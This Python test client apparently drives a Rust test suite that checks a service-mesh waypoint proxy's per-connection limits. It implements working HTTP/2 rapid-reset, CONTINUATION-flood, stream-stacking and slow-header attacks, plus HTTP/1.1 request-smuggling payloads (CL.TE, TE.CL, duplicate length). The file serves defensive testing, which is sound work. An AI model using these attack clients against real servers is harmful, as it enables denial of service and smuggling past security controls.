"""Abusive HTTP clients, one per attack on the waypoint's per-connection limits.

Each scenario opens its own TCP connection to ADDR (the in-process test's relay into an HBONE
tunnel, or a service VIP from inside a pod, captured by ztunnel) and speaks HTTP/1.1 on a bare
socket or HTTP/2 frame by frame (hyperframe and hpack, the parts of the python-h2 package that
let a client break the rules h2's own state machine would enforce). What it saw is printed as
`key=value` lines for the Rust test to assert on; the script never judges.

    python3 abuse.py SCENARIO HOST:PORT AUTHORITY [N]
"""

import signal
import socket
import sys
import time

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
# Longer than any limit under test; the Rust side kills the script after its own timeout.
PATIENCE = 40


def say(key, value):
    print(f"{key}={value}", flush=True)


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class RawH2:
    """An HTTP/2 client connection that sends whatever frames it is told to."""

    def __init__(self, addr, authority):
        self.sock = socket.create_connection(addr, timeout=PATIENCE)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = authority
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.pings = set()
        self.server_settings = False
        self.send(PREFACE + SettingsFrame(0).serialize())
        # h2 applies its SETTINGS (stream limits) once they are acknowledged.
        self.read_until(lambda: self.server_settings)

    def send(self, data):
        # A server that gave up on us may stop reading; what it said is still to be read.
        try:
            self.sock.sendall(data)
        except OSError:
            pass

    def block(self, path, extra=()):
        headers = [
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", self.authority),
            (":path", path),
        ]
        return self.encoder.encode(headers + list(extra))

    def headers(self, stream, path="/", end_stream=True, extra=()):
        frame = HeadersFrame(stream, self.block(path, extra))
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def headers_in_pieces(self, stream, block, piece):
        """HEADERS with the first `piece` bytes of `block`, CONTINUATIONs with the rest."""
        first = HeadersFrame(stream, block[:piece])
        first.flags.add("END_STREAM")
        frames = [first]
        for at in range(piece, len(block), piece):
            frames.append(ContinuationFrame(stream, block[at : at + piece]))
        if len(frames) == 1:
            first.flags.add("END_HEADERS")
        else:
            frames[-1].flags.add("END_HEADERS")
        return b"".join(f.serialize() for f in frames)

    @staticmethod
    def rst(stream, code=CANCEL):
        return RstStreamFrame(stream, error_code=code).serialize()

    @staticmethod
    def ping(n):
        return PingFrame(0, n.to_bytes(8, "big")).serialize()

    def read_until(self, done, seconds=PATIENCE):
        """Reads and handles frames until `done()` or the connection closes, for at most
        `seconds`. Returns whether `done()` became true."""
        deadline = time.monotonic() + seconds
        while not done():
            if self.closed:
                return False
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return False
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return done()
            self.buf += data
            self.handle_frames()
        return True

    def handle_frames(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            self.on_frame(frame)

    def on_frame(self, frame):
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
            self.server_settings = True
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                self.pings.add(int.from_bytes(frame.opaque_data, "big"))
            else:
                self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            self.goaway = code_name(frame.error_code)
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = code_name(frame.error_code)
        elif isinstance(frame, HeadersFrame):
            for name, value in self.decoder.decode(frame.data):
                if name == ":status":
                    self.statuses[frame.stream_id] = int(value)
        elif isinstance(frame, DataFrame) and frame.flow_controlled_length:
            n = frame.flow_controlled_length
            self.send(
                WindowUpdateFrame(0, n).serialize()
                + WindowUpdateFrame(frame.stream_id, n).serialize()
            )

    def finish(self):
        """Waits for the server to close the connection, then reports."""
        self.read_until(lambda: False)
        say("goaway", self.goaway)
        say("closed", int(self.closed))


def rapid_reset(addr, authority, n):
    """n requests, each cancelled at once, all in one burst."""
    h = RawH2(addr, authority)
    burst = b"".join(
        h.headers(sid) + h.rst(sid) for sid in range(1, 2 * n, 2)
    )
    h.send(burst)
    say("sent", n)
    h.finish()


def paced_reset(addr, authority, n):
    """n requests, each cancelled once the server has surely taken it (after a PING round
    trip), so that h2's accept queue never holds a reset stream."""
    h = RawH2(addr, authority)
    sent = 0
    for i in range(n):
        sid = 2 * i + 1
        h.send(h.headers(sid) + h.ping(i))
        if not h.read_until(lambda: i in h.pings, 10):
            break
        h.send(h.rst(sid))
        sent += 1
    say("sent", sent)
    say("answered", len(h.statuses))
    h.finish()


def continuation(addr, authority, n):
    """One header block cut into n one-byte CONTINUATION frames."""
    h = RawH2(addr, authority)
    block = h.block("/", [("x-pad", "p" * n)])
    h.send(h.headers_in_pieces(1, block, 1))
    say("frames", len(block))
    h.finish()


def oversized_h2(addr, authority, n):
    """A request whose headers are n bytes, then a normal one on the same connection."""
    h = RawH2(addr, authority)
    block = h.block("/", [("x-big", "b" * n)])
    h.send(h.headers_in_pieces(1, block, 16384))
    h.send(h.headers(3))
    h.read_until(lambda: 3 in h.statuses and (1 in h.statuses or 1 in h.resets))
    say("big_status", h.statuses.get(1))
    say("big_reset", h.resets.get(1))
    say("next_status", h.statuses.get(3))
    say("goaway", h.goaway)
    say("closed", int(h.closed))


def stacking(addr, authority, n):
    """n requests left open (no END_STREAM), ignoring SETTINGS_MAX_CONCURRENT_STREAMS."""
    h = RawH2(addr, authority)
    h.send(b"".join(h.headers(sid, end_stream=False) for sid in range(1, 2 * n, 2)))
    h.finish()
    refused = sum(1 for code in h.resets.values() if code == "REFUSED_STREAM")
    say("refused", refused)


def slow_h2(addr, authority, _n):
    """A header block opened and never finished: one CONTINUATION a second, three times."""
    h = RawH2(addr, authority)
    block = h.block("/", [("x-slow", "s" * 64)])
    first = HeadersFrame(1, block[:8])
    first.flags.add("END_STREAM")
    h.send(first.serialize())
    for at in range(8, 32, 8):
        if h.read_until(lambda: False, 1):
            break
        h.send(ContinuationFrame(1, block[at : at + 8]).serialize())
    h.finish()


def http1(addr, request, trickle=None):
    """Sends `request` (then `trickle` bytes once a second), reads what comes back until the
    server closes; reports the status lines and whether it closed."""
    sock = socket.create_connection(addr, timeout=PATIENCE)
    sock.sendall(request)
    got = b""
    deadline = time.monotonic() + PATIENCE
    closed = False
    while time.monotonic() < deadline:
        sock.settimeout(1 if trickle else deadline - time.monotonic())
        try:
            data = sock.recv(65536)
        except socket.timeout:
            try:
                sock.sendall(trickle)
            except OSError:
                closed = True
                break
            continue
        except OSError:
            data = b""
        if not data:
            closed = True
            break
        got += data
    statuses = [
        line.split(b" ")[1].decode()
        for line in got.split(b"\r\n")
        if line.startswith(b"HTTP/1.")
    ]
    say("statuses", ",".join(statuses))
    say("closed", int(closed))


SMUGGLED = b"GET /smuggled HTTP/1.1\r\nhost: %s\r\n\r\n"


def smuggle(addr, authority, shape):
    a = authority.encode()
    hidden = b"0\r\n\r\n" + SMUGGLED % a
    heads = {
        "cl-te": b"content-length: %d\r\ntransfer-encoding: chunked\r\n" % len(hidden),
        "te-cl": b"transfer-encoding: chunked\r\ncontent-length: %d\r\n" % len(hidden),
        "cl-cl": b"content-length: 5\r\ncontent-length: %d\r\n" % len(hidden),
        "bad-te": b"transfer-encoding: chunked, identity\r\n",
        "te-space": b"transfer-encoding : chunked\r\n",
    }
    request = b"POST /s HTTP/1.1\r\nhost: %s\r\n%s\r\n%s" % (a, heads[shape], hidden)
    say("shape", shape)
    http1(addr, request)


def oversized_h1(addr, authority, n):
    request = b"GET / HTTP/1.1\r\nhost: %s\r\nx-big: %s\r\n\r\n" % (authority.encode(), b"b" * n)
    http1(addr, request)


def many_headers_h1(addr, authority, n):
    fields = b"".join(b"x-h%d: 1\r\n" % i for i in range(n))
    http1(addr, b"GET / HTTP/1.1\r\nhost: %s\r\n%s\r\n" % (authority.encode(), fields))


def slow_h1(addr, authority, _n):
    head = b"GET / HTTP/1.1\r\nhost: %s\r\n" % authority.encode()
    http1(addr, head, trickle=b"x-slow: 1\r\n")


SCENARIOS = {
    "rapid-reset": rapid_reset,
    "paced-reset": paced_reset,
    "continuation": continuation,
    "oversized-h2": oversized_h2,
    "stacking": stacking,
    "slow-h2": slow_h2,
    "smuggle": smuggle,
    "oversized-h1": oversized_h1,
    "many-headers-h1": many_headers_h1,
    "slow-h1": slow_h1,
}


def main():
    scenario, target, authority = sys.argv[1:4]
    arg = sys.argv[4] if len(sys.argv) > 4 else "0"
    host, _, port = target.rpartition(":")
    addr = (host.strip("[]"), int(port))

    def on_alarm(_signum, _frame):
        say("error", f"{scenario} did not finish within {PATIENCE + 20}s")
        sys.exit(1)

    signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(PATIENCE + 20)
    run = SCENARIOS[scenario]
    run(addr, authority, arg if scenario == "smuggle" else int(arg))
    say("result", "done")


if __name__ == "__main__":
    main()
